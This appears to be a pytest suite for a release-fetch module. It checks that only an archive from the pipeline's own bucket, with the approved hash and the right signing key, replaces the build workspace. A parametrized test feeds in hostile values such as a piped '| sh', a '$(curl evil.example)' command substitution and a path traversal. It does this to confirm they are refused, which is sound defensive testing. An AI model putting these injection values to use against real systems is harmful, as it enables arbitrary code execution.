"""A release is made of what was proven, approved and signed, and of nothing else."""

import hashlib
import stat
import subprocess
from pathlib import Path

import pytest

from infra.deploy import fetch

BUCKET = "example-karcis-pipeline"
ARTEFACT = f"gs://{BUCKET}/{'0a' * 20}/{'1b2c3d4e-0000-4000-8000-000000000000'}.tar.gz"
KEY = "projects/example-karcis/locations/asia-southeast2/keyRings/main/cryptoKeys/release/cryptoKeyVersions/1"
GCLOUD = """#!/bin/sh
folder=${0%/*}
case "$1" in
storage) case "$3" in *.sig) cp "$folder/signature" "$4" ;; *) cp "$folder/archive" "$4" ;; esac ;;
kms) cp "$folder/public.pem" "${6#--output-file=}" ;;
esac
"""


def openssl(*arguments: str) -> None:
    subprocess.run(["openssl", *arguments], check=True, capture_output=True)


@pytest.fixture
def cloud(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A bucket with a signed archive of one file, and a gcloud that copies from there."""
    folder = tmp_path / "cloud"
    folder.mkdir()
    (folder / "proven.txt").write_text("proven")
    subprocess.run(["tar", "-czf", str(folder / "archive"), "-C", str(folder), "proven.txt"], check=True)
    private, archive = str(folder / "private.pem"), str(folder / "archive")
    openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", private)
    openssl("ec", "-in", private, "-pubout", "-out", str(folder / "public.pem"))
    openssl("dgst", "-sha256", "-sign", private, "-out", str(folder / "signature"), archive)
    script = folder / "gcloud"
    script.write_text(GCLOUD)
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", str(folder), prepend=":")
    return folder


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """The working directory of a build, with what its source brought."""
    folder = tmp_path / "workspace"
    (folder / "infra").mkdir(parents=True)
    (folder / "of-main.txt").write_text("not proven")
    return folder


def sha256(cloud: Path) -> str:
    return hashlib.sha256((cloud / "archive").read_bytes()).hexdigest()


def names(folder: Path) -> list[str]:
    return sorted(each.name for each in folder.iterdir())


def test_what_was_approved_and_signed_takes_the_place_of_everything_else(cloud: Path, workspace: Path):
    fetch.fetch(ARTEFACT, sha256(cloud), bucket=BUCKET, key=KEY, into=workspace)
    assert names(workspace) == ["proven.txt"]


@pytest.mark.parametrize(
    "artefact",
    [
        "gs://somebody-elses-bucket/" + ARTEFACT.split("/", 3)[3],
        ARTEFACT.replace(BUCKET, f"{BUCKET}-of-others"),
        f"{ARTEFACT} | sh",
        f"$(curl evil.example) {ARTEFACT}",
        ARTEFACT.replace(".tar.gz", "/../x.tar.gz"),
        "",
    ],
)
def test_an_archive_from_elsewhere_is_refused(cloud: Path, workspace: Path, artefact: str):
    with pytest.raises(fetch.ArchiveRejected, match="no archive of the pipeline's bucket"):
        fetch.fetch(artefact, sha256(cloud), bucket=BUCKET, key=KEY, into=workspace)
    assert "of-main.txt" in names(workspace)


def test_another_archive_than_the_approved_one_is_refused(cloud: Path, workspace: Path):
    with pytest.raises(fetch.ArchiveRejected, match="approved was"):
        fetch.fetch(ARTEFACT, "0" * 64, bucket=BUCKET, key=KEY, into=workspace)
    assert "of-main.txt" in names(workspace)


def test_an_archive_that_the_pipeline_has_not_signed_is_refused(cloud: Path, workspace: Path):
    (cloud / "archive").write_bytes((cloud / "archive").read_bytes() + b"\0")
    with pytest.raises(fetch.ArchiveRejected, match="not signed"):
        fetch.fetch(ARTEFACT, sha256(cloud), bucket=BUCKET, key=KEY, into=workspace)
    assert "of-main.txt" in names(workspace)


def test_a_signature_by_another_key_is_refused(cloud: Path, workspace: Path):
    private = str(cloud / "other.pem")
    openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", private)
    openssl("dgst", "-sha256", "-sign", private, "-out", str(cloud / "signature"), str(cloud / "archive"))
    with pytest.raises(fetch.ArchiveRejected, match="not signed"):
        fetch.fetch(ARTEFACT, sha256(cloud), bucket=BUCKET, key=KEY, into=workspace)
